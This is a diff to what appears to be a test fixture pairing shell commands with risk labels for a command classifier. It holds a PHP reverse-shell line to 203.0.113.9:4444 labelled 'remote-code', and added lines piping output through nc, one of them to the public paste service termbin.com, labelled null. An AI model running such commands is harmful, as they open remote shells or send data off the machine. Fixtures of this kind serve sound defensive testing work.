@@ -32,6 +32,8 @@ export const handedOver: readonly (readonly [
   ],
   [`php -r '$s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3");'`, "remote-code"],
   ["bash -i", null],
+  ["bash build.sh -i 2>&1 | nc termbin.com 9999", null],
+  ["bash -lic 'nvm use' | nc localhost 9000", null],
   ["bash -c 'echo > /dev/tcp/localhost/5432'", null],
   ["timeout 1 bash -c '</dev/tcp/db/5432' && echo up", null],
   ["nc -zv db.internal 5432", null],
